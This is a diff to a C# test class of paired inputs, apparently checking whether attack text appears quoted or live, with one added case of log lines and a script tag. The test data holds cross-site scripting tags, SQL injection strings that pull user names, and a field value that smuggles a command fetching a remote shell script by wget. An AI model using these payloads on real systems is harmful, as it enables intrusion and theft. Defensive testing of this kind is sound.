@@ -18,6 +18,7 @@ public class QuotedTextTests
     [InlineData("text=A+page+shows+<script>alert(1)</script>+when+it+does+not+escape+what+people+write", "text=<script>alert(1)</script>")]
     [InlineData("{\"body\": \"diff --git a/login.php\\n+<script>alert(1)</script>\"}", "{\"body\": \"<script>alert(1)</script>\"}")]
     [InlineData("#!/bin/sh\nwget -q http://mirror.example/tool; chmod +x tool", "name=x;wget+http://192.0.2.1/bins.sh")]
+    [InlineData("{\"m\": \"GET /page1 HTTP/1.1\\\" 200 and more\"}\n{\"m\": \"GET /page2 HTTP/1.1\\\" 200 and more\"}\n{\"m\": \"<script>alert(1)</script> refused\"}", "{\"m\": \"GET /page1 HTTP/1.1\\\" 200 and more\", \"n\": \"<script>alert(1)</script>\"}")]
     [InlineData("{\"sql\": \"SELECT 1 OR 1=1\"}", "{\"a\": \"select \", \"b\": \"1' union select name from users --\"}")]
     [InlineData("sql=SELECT+'a'+UNION+SELECT+'b'", "name=select+'+UNION+SELECT+name+FROM+users--")]
     [InlineData("{\"message\": \"GET /?q=1' union select 2 HTTP/1.1\\\" 404\"}\n{\"message\": \"GET /?q=1' union select 2,", "name=1'+union+select+2,3--&note=+HTTP/1.1\"")]
